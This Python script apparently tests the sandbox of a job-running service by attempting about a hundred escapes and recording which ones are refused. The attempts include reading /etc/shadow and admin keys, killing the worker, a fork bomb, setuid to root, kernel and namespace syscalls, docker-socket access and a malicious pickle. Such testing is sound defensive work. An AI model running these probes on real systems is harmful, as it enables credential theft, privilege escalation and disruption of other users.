"""Attacks. Uses only the standard library, because it is uploaded as a program. Writes results to `attacks.json`.

`TARGETS` (JSON in the environment) names what to attack. Without it, the script searches from its own folder, as an
unknown script would. An attack that raises was refused; what an attack returns is the evidence that it worked.
"""

import ctypes
import errno
import json
import os
import pickle
import platform
import resource
import signal
import socket
import struct
import sys
import time
from pathlib import Path

HERE = Path.cwd()
GIVEN = json.loads(os.environ.get("TARGETS", "{}"))
VOLUME = Path(GIVEN.get("volume") or HERE.parents[5])
DATA = Path(GIVEN.get("data") or VOLUME.parent)
PARENT = int(GIVEN.get("parent") or os.getppid())
OTHER = Path(GIVEN["other"]) if "other" in GIVEN else None
ATTACKS = {}
IS_X86 = platform.machine() == "x86_64"
libc = ctypes.CDLL(None, use_errno=True)


class Harmless(Exception):
    """The attack had no effect."""


def attack(act):
    ATTACKS[act.__name__] = act
    return act


def syscall(x86, arm, *arguments):
    libc.syscall.restype = ctypes.c_long
    number = x86 if IS_X86 else arm
    if number is None:
        raise Harmless("not on this machine")
    longs = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    result = libc.syscall(ctypes.c_long(number), *longs)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def other():
    """The folder of an attempt of another job."""
    if OTHER is not None:
        return OTHER
    mine = HERE.parents[2].name
    for job in VOLUME.glob("jobs/*/*"):
        if job.name != mine:
            return job / "attempts" / "1"
    raise PermissionError("no other job can be seen")


def try_to_change(path, change):
    """Compare a file's facts before and after `change`, because a call may succeed and do nothing."""
    before = os.stat(path)
    change()
    after = os.stat(path)
    if (before.st_mode, before.st_uid, before.st_mtime, before.st_size) == (
        after.st_mode,
        after.st_uid,
        after.st_mtime,
        after.st_size,
    ):
        raise Harmless("nothing changed")
    return "changed"


# Reading


@attack
def read_the_spec_of_another_job():
    return (other().parents[1] / "spec.json").read_text()


@attack
def read_the_output_of_another_job():
    return (other() / "output.log").read_text()


@attack
def list_the_jobs():
    return os.listdir(VOLUME / "jobs")


@attack
def list_the_volume():
    return os.listdir(VOLUME)


@attack
def list_the_programs():
    return os.listdir(VOLUME / "programs")


@attack
def list_the_datasets():
    return os.listdir(VOLUME / "datasets")


@attack
def read_the_admin_key():
    return (DATA / "admin_key").read_text()


@attack
def list_the_keys():
    return os.listdir(DATA / "api")


@attack
def read_the_logs_of_the_service():
    return os.listdir(DATA / "logs")


@attack
def read_the_redis_password():
    return (DATA / "cli.json").read_text() + (DATA / "redis" / "redis.conf").read_text()


@attack
def read_etc_passwd():
    return Path("/etc/passwd").read_text()


@attack
def read_etc_shadow():
    return Path("/etc/shadow").read_text()


@attack
def list_the_home_of_root():
    return os.listdir("/root")


@attack
def list_tmp():
    return os.listdir("/tmp")


@attack
def list_shared_memory():
    return os.listdir("/dev/shm")


@attack
def list_the_root():
    return os.listdir("/")


@attack
def read_a_disk():
    return [os.open(f"/dev/{name}", os.O_RDONLY) for name in ("vda", "sda", "nvme0n1", "mem", "kmsg")]


@attack
def read_the_environment_of_the_worker():
    return Path(f"/proc/{PARENT}/environ").read_text()


@attack
def read_the_memory_of_the_worker():
    return Path(f"/proc/{PARENT}/maps").read_text()


@attack
def list_the_descriptors_of_the_worker():
    return os.listdir(f"/proc/{PARENT}/fd")


@attack
def read_the_command_line_of_the_worker():
    return Path(f"/proc/{PARENT}/cmdline").read_text()


@attack
def list_the_processes():
    return os.listdir("/proc")


@attack
def find_a_secret_in_the_environment():
    words = ("PASSWORD", "SECRET", "TOKEN", "REDIS", "ADMIN", "API_KEY")
    mine = Path("/proc/self/environ").read_bytes().split(b"\0")
    names = {*os.environ, *(one.split(b"=")[0].decode() for one in mine)}
    found = [name for name in names if any(word in name for word in words)]
    if not found:
        raise Harmless("none")
    return found


@attack
def watch_the_volume():
    libc.inotify_init.restype = ctypes.c_int
    descriptor = libc.inotify_init()
    if descriptor == -1 or libc.inotify_add_watch(descriptor, os.fsencode(VOLUME), 0xFFF) == -1:
        raise OSError(ctypes.get_errno(), "inotify")
    return "watching"


@attack
def open_a_file_by_its_handle():
    handle = ctypes.create_string_buffer(struct.pack("Ii128x", 128, 0))
    mount = ctypes.c_int()
    syscall(303, 264, -100, ctypes.create_string_buffer(os.fsencode(VOLUME)), handle, ctypes.byref(mount), 0)
    return syscall(304, 265, -100, handle, os.O_RDONLY)


# Writing


@attack
def forge_the_result_of_another_job():
    return (other().parents[1] / "result.json").write_text("{}")


@attack
def forge_the_heartbeat_of_another_job():
    return (other() / "heartbeat").write_text("{}")


@attack
def forge_the_system_metrics_of_its_own_job():
    folder = HERE.parents[2] / "system"
    folder.mkdir(exist_ok=True)
    return (folder / f"{HERE.parent.name}.jsonl").write_text("{}")


@attack
def truncate_a_file_of_another_job():
    target = other() / "output.log"
    return try_to_change(target, lambda: os.truncate(target, 0))


@attack
def empty_a_file_of_another_job_by_opening_it():
    target = other() / "output.log"
    return try_to_change(target, lambda: os.close(os.open(target, 3 | os.O_TRUNC)))


@attack
def delete_a_file_of_another_job():
    return (other() / "output.log").unlink()


@attack
def rename_another_job():
    return other().rename(other().with_name("2"))


@attack
def make_a_file_in_another_job():
    return (other() / "mine").write_text("x")


@attack
def take_a_file_of_another_job_by_a_hard_link():
    return os.link(other() / "output.log", "taken")


@attack
def reach_another_job_by_a_symbolic_link():
    os.symlink(other() / "output.log", "linked")
    return Path("linked").read_text()


@attack
def leave_a_symbolic_link_for_those_who_read_the_job():
    return os.symlink("/etc/passwd", "innocent.txt")


@attack
def leave_a_pipe_for_those_who_read_the_job():
    return os.mkfifo("pipe")


@attack
def leave_a_socket_for_those_who_read_the_job():
    return socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET).bind("socket")


@attack
def make_a_device():
    return os.mknod("device", 0o600 | 0o020000, os.makedev(1, 1))


@attack
def change_the_rights_of_another_job():
    return try_to_change(other(), lambda: os.chmod(other(), 0o777))


@attack
def change_the_rights_of_the_volume():
    return try_to_change(VOLUME, lambda: os.chmod(VOLUME, 0))


@attack
def change_the_owner_of_another_job():
    return try_to_change(other(), lambda: os.chown(other(), 12345, 12345))


@attack
def change_the_times_of_another_job():
    return try_to_change(other(), lambda: os.utime(other(), (1, 1)))


@attack
def change_a_dataset():
    data = next(Path(path) for name, path in os.environ.items() if name.startswith("FITSTOP_DATASET_"))
    return try_to_change(data, lambda: data.write_bytes(b"x"))


@attack
def change_the_code_of_the_service():
    import worker

    return (Path(worker.__file__).parent / "mine.py").write_text("x")


@attack
def change_a_library():
    return (Path(os.__file__).parent / "mine.py").write_text("x")


@attack
def add_to_the_kernels_that_others_run():
    return (Path(os.environ.get("CUDA_CACHE_PATH", DATA / "cuda-cache")) / "index").write_text("x")


@attack
def read_the_compiled_programs_of_the_worker():
    return next((DATA / "compiled-programs").glob("*/*")).read_text()


@attack
def change_a_compiled_program_that_others_run():
    return next((DATA / "compiled-programs").glob("*/*")).write_text("x")


@attack
def add_to_the_compiled_programs_that_others_run():
    return (DATA / "compiled-programs" / "compiler" / "threads-2__2.pb").write_text("x")


@attack
def write_to_tmp():
    return Path("/tmp/of-a-hostile-script").write_text("x")


@attack
def write_to_the_home_of_the_worker():
    import pwd

    try:
        home = pwd.getpwuid(os.getuid()).pw_dir
    except (KeyError, OSError):
        home = "/root"
    return (Path(home) / ".bashrc").open("a").write("x")


@attack
def write_a_file_without_end():
    with open("large", "wb") as file:
        file.seek(100 * 1024**3)
        return file.write(b"x")


# Other processes


@attack
def signal_the_worker():
    return os.kill(PARENT, signal.SIGKILL)


@attack
def freeze_the_worker():
    return os.kill(PARENT, signal.SIGSTOP)


@attack
def signal_any_process():
    reached = []
    for pid in range(1, max(PARENT, os.getpid()) + 2):
        if pid != os.getpid():
            try:
                os.kill(pid, 0)
                reached.append(pid)
            except OSError:
                pass
    if not reached:
        raise Harmless("none")
    return reached


@attack
def have_the_kernel_signal_the_worker():
    import fcntl

    one, two = socket.socketpair()
    fcntl.fcntl(one, fcntl.F_SETOWN, PARENT)
    fcntl.fcntl(one, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    two.send(b"x")
    # With Landlock, the call may succeed although no signal is sent.
    raise Harmless("judged from outside")


@attack
def trace_the_worker():
    return syscall(101, 117, 16, PARENT, 0, 0)


@attack
def read_the_worker_across_processes():
    into = ctypes.create_string_buffer(8)
    local = struct.pack("NN", ctypes.addressof(into), 8)
    return syscall(310, 270, PARENT, local, 1, local, 1, 0)


@attack
def take_a_descriptor_of_the_worker():
    return syscall(438, 438, os.pidfd_open(PARENT), 1, 0)


@attack
def limit_the_worker():
    return resource.prlimit(PARENT, resource.RLIMIT_CPU, (1, 1))


@attack
def slow_the_worker_down():
    return os.setpriority(os.PRIO_PROCESS, PARENT, 19)


@attack
def slow_the_user_down():
    return os.setpriority(os.PRIO_USER, 0, 19)


@attack
def schedule_the_worker_as_idle():
    return os.sched_setscheduler(PARENT, os.SCHED_IDLE, os.sched_param(0))


@attack
def bind_the_worker_to_one_core():
    return os.sched_setaffinity(PARENT, {0})


@attack
def outlive_the_job():
    """Start a sleeping grandchild in its own session, which must not exist after the job."""
    reader, writer = os.pipe()
    child = os.fork()
    if not child:
        try:
            os.setsid()
            whose = "session"
        except OSError:
            whose = "none"
        if not os.fork():
            Path("grandchild").write_text(f"{whose} {os.getpid()}")
            os.write(writer, b"written")
            for descriptor in range(3):
                os.close(descriptor)
            signal.pause()
        os._exit(0)
    os.waitpid(child, 0)
    os.read(reader, 16)
    if Path("grandchild").read_text().startswith("session"):
        return "in a session of its own"
    raise Harmless("it is in the group of the job")


@attack
def live_on_when_the_worker_dies():
    if libc.prctl(1, 0, 0, 0, 0) == -1:
        raise OSError(ctypes.get_errno(), "prctl")
    return "the kernel does not end it with its parent"


@attack
def start_without_end():
    """Start `forks` processes (from `TARGETS`; default: none). Unless all start, try to raise their limit."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NPROC)
    most = int(GIVEN.get("forks") or 0)
    started = []
    try:
        for _ in range(most):
            child = os.fork()
            if not child:
                signal.pause()
            started.append(child)
    except OSError as error:
        if error.errno != errno.EAGAIN:
            raise
    finally:
        Path("forks").write_text(str(len(started)))
    if most and len(started) == most:
        return f"{most} processes"
    resource.setrlimit(resource.RLIMIT_NPROC, (hard + 1, hard + 1))
    return f"more than {soft}"


# The kernel


@attack
def become_root():
    os.setuid(0)
    if os.getuid() == 0 and not Path("/proc/self/status").read_text().split("CapEff:\t")[1].startswith("0" * 16):
        return "root"
    raise Harmless("no capability came of it")


@attack
def make_a_user_namespace():
    return syscall(272, 97, 0x10000000)


@attack
def make_a_user_namespace_by_clone():
    child = syscall(56, 220, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)
    if child == 0:
        os._exit(0)
    return child


@attack
def make_a_user_namespace_by_clone3():
    child = syscall(435, 435, struct.pack("QQQQQQQQ", 0x10000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0), 64)
    if child == 0:
        os._exit(0)
    return child


@attack
def mount_a_filesystem():
    return syscall(165, 40, b"tmpfs", b"/mnt", b"tmpfs", 0, 0)


@attack
def mount_by_the_new_interface():
    return syscall(430, 430, b"tmpfs", 0)


@attack
def change_the_root():
    return os.chroot(".")


@attack
def join_a_namespace():
    return syscall(308, 268, os.open("/proc/self/ns/net", os.O_RDONLY), 0)


@attack
def use_the_keys_of_the_kernel():
    return syscall(250, 219, 0, -3, 1, 0, 0)


@attack
def load_a_program_into_the_kernel():
    return syscall(321, 280, 0, struct.pack("IIII", 2, 4, 4, 1), 16)


@attack
def count_events_of_the_processor():
    return syscall(298, 241, struct.pack("IIQ104x", 1, 112, 0), 0, -1, -1, 0)


@attack
def use_io_uring():
    return syscall(425, 425, 8, ctypes.create_string_buffer(120))


@attack
def handle_page_faults():
    return syscall(323, 282, 1)


@attack
def load_another_kernel():
    return syscall(246, 104, 0, 0, 0, 0)


@attack
def load_a_module():
    return syscall(313, 273, 0, b"", 0)


@attack
def read_the_log_of_the_kernel():
    return syscall(103, 116, 10, 0, 0)


@attack
def set_the_clock():
    return time.clock_settime(time.CLOCK_REALTIME, time.time())


@attack
def call_by_numbers_of_another_machine():
    return syscall(0x40000000 + 39, None)


@attack
def type_into_a_terminal():
    import fcntl

    return fcntl.ioctl(0, 0x5412, b"x")


@attack
def leave_memory_behind():
    return syscall(29, 194, 0x1234, 4096, 0o1600)


# The network


@attack
def connect_by_tcp():
    return socket.create_connection(("127.0.0.1", int(GIVEN.get("tcp") or 6379)), 2)


@attack
def listen_by_tcp():
    return socket.create_server(("127.0.0.1", 0))


@attack
def send_by_udp():
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", int(GIVEN.get("udp") or 53)))


@attack
def send_by_udp6():
    return socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"x", ("::1", int(GIVEN.get("udp") or 53)))


@attack
def open_a_raw_socket():
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)


@attack
def open_a_packet_socket():
    return socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)


@attack
def open_a_socket_of_the_kernel():
    return socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)


@attack
def open_a_socket_to_the_host_of_this_machine():
    return socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)


@attack
def open_a_socket_of_the_kernels_ciphers():
    return socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET)


@attack
def connect_to_a_socket_of_docker():
    found = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    return found.connect(GIVEN.get("socket") or "/var/run/docker.sock")


@attack
def connect_to_an_abstract_socket():
    found = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    return found.connect("\0" + (GIVEN.get("abstract") or "/tmp/.X11-unix/X0"))


@attack
def ask_the_fork_server_for_a_process_outside():
    import multiprocessing

    process = multiprocessing.get_context("forkserver").Process(target=print)
    process.start()
    process.join()
    return "started"


# What it was given


@attack
def have_the_worker_unpickle():
    """Write a pickle, and half a message, into each open descriptor."""

    class Harmful:
        def __reduce__(self):
            return os.mkdir, (str(HERE / "unpickled"),)

    bomb = pickle.dumps(Harmful())
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("!i", len(bomb)) + bomb + struct.pack("!i", 2**30))
        except OSError:
            continue
    raise Harmless("judged from outside")


def main():
    found = {}
    for name, act in ATTACKS.items():
        try:
            found[name] = ["DID", repr(act())[:200]]
        except Harmless as reason:
            found[name] = ["harmless", str(reason)]
        except (OSError, EOFError, StopIteration, RuntimeError, ValueError) as error:
            found[name] = ["refused", f"{type(error).__name__}: {error}"[:200]]
    Path("attacks.json").write_text(json.dumps(found))
    done = [name for name, (what, _) in found.items() if what == "DID"]
    print(f"{len(found)} attacks, worked: {done or 'none'}", flush=True)


if __name__ == "__main__":
    main()
    sys.stdout.flush()
